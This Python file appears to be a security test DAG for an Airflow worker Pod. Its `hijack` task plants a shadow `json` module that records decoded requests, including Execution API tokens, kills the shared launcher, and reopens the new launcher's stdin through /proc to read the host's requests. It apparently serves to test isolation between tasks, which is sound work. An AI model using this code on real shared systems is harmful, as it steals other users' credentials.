"""airflow DAG for the docker stage's worker Pod (test_pod.py): a task that attacks the
pre-forked launcher, through which every later task's workload (with its Execution API token)
passes, and an ordinary task that runs after the attack.

``hijack`` does what any DAG author's task could on a shared pool, as the task host's user:

* it plants a module named ``json`` (the launcher decodes every request with ``json.loads``)
  wherever the launcher's Python could find it first: the folder of the launcher's script when
  a command line names one (the pre-forked launcher's, and each fresh interpreter's), and the
  current folder (``-c`` puts it first on ``sys.path``);
  the module records every text decoded with ``json.loads`` in ``hijack-capture`` in the log
  folder, then behaves as the real one;
* it kills the pre-forked launcher, if there is one (SIGKILL: same user), so that the task host
  starts a new one;
* it watches for the new launcher and opens its stdin again through ``/proc/<pid>/fd/0`` before
  it makes itself undumpable: a pipe opened that way is a second reader of the task host's
  requests; what it reads goes to ``hijack-capture`` too;
* it keeps running for a while (so it is still there when ``victim`` starts) and prints what
  each step did (``astro-launcher-hijack: ...``).

``victim`` starts once ``pause`` (beside ``hijack``) has ended, after the launcher's restart: its
workload — through the new launcher, or a fresh interpreter — is the one the attack is after. It
only has to run.
"""

from __future__ import annotations

import glob
import os
import signal
import tempfile
import time
from datetime import datetime

from airflow.sdk import DAG, get_current_context, task

CAPTURE = "hijack-capture"
#: How long ``pause`` takes: the new launcher has imported Airflow by then, on most days.
PAUSE_SECONDS = 25
#: How long ``hijack`` watches the new launcher's stdin: until well after ``victim`` started.
WATCH_SECONDS = PAUSE_SECONDS + 25

SHADOW_JSON = '''\
import importlib, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _here]
del sys.modules[__name__]
_real = importlib.import_module("json")
sys.path[:] = _saved
_loads = _real.loads


def loads(s, *args, **kwargs):
    try:
        with open({capture!r}, "ab") as out:
            out.write((s if isinstance(s, bytes) else s.encode()) + b"\\n")
    except OSError:
        pass
    return _loads(s, *args, **kwargs)


_real.loads = loads
'''


def say(what: str) -> None:
    print(f"astro-launcher-hijack: {what}", flush=True)


def argv_of(pid: int) -> list[bytes]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def parent_of(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def script_folders() -> set[str]:
    """Folders of launcher scripts: named on a command line (older agents ran the script from a
    file), or the task host's work folders in the temporary folder (a fresh interpreter's command
    line is gone once Airflow's supervisor has set its process title)."""
    folders = set(glob.glob(os.path.join(tempfile.gettempdir(), "astro-agent-*")))
    for entry in os.listdir("/proc"):
        argv = argv_of(int(entry)) if entry.isdigit() else []
        if len(argv) > 1 and argv[1].endswith(b"astro_launcher.py"):
            folders.add(os.path.dirname(argv[1].decode()))
    return folders


def launchers() -> dict[int, list[bytes]]:
    """The task host's (PID 1's) pre-forked launcher: a script file on its command line (older
    agents: ``python .../astro_launcher.py SPARES``) or its source (``python -c SOURCE
    astro-launcher SPARES``); not a fresh interpreter's ``--one``."""
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or parent_of(int(entry)) != 1:
            continue
        argv = argv_of(int(entry))
        by_file = len(argv) > 1 and argv[1].endswith(b"astro_launcher.py") and b"--one" not in argv
        by_source = argv[1:2] == [b"-c"] and argv[3:4] == [b"astro-launcher"] and argv[4:5] != [b"--one"]
        if by_file or by_source:
            found[int(entry)] = argv
    return found


def plant(folder: str, capture: str) -> None:
    path = os.path.join(folder, "json.py")
    try:
        with open(path, "w") as f:
            f.write(SHADOW_JSON.replace("{capture!r}", repr(capture)))
        say(f"planted {path}")
    except OSError as e:
        say(f"could not plant {path}: {e}")


def reopen_stdin_of_the_next_launcher(old: set[int], capture: str, deadline: float) -> None:
    while time.monotonic() < deadline:
        new = [pid for pid in launchers() if pid not in old]
        if new:
            pid = new[0]
            try:
                fd = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            except OSError as e:
                say(f"reopening the new launcher's stdin (pid {pid}) refused: {e}")
                return
            say(f"reopened the new launcher's stdin (pid {pid})")
            while time.monotonic() < deadline:
                try:
                    data = os.read(fd, 65536)
                except BlockingIOError:
                    time.sleep(0.01)
                    continue
                if not data:
                    return
                with open(capture, "ab") as out:
                    out.write(data)
            return
        time.sleep(0.001)
    say("no new launcher seen")


@task
def hijack() -> None:
    capture = os.path.join(get_current_context()["dag_run"].conf["log_folder"], CAPTURE)
    found = launchers()
    say(f"launchers: { {pid: [a[:60] for a in argv[:1] + argv[2:]] for pid, argv in found.items()} }")
    for folder in sorted({os.getcwd()} | script_folders()):
        plant(folder, capture)
    deadline = time.monotonic() + WATCH_SECONDS
    for pid in found:
        os.kill(pid, signal.SIGKILL)
        say(f"killed launcher {pid}")
    reopen_stdin_of_the_next_launcher(set(found), capture, deadline)
    time.sleep(max(0.0, deadline - time.monotonic()))


@task
def pause() -> None:
    time.sleep(PAUSE_SECONDS)


@task
def victim() -> str:
    return "ran"


with DAG(dag_id="docker_launcher_hijack", schedule=None, start_date=datetime(2024, 1, 1), catchup=False,
         tags=["astro-docker"], default_args={"queue": "pod", "retries": 0}):
    hijack()
    pause() >> victim()
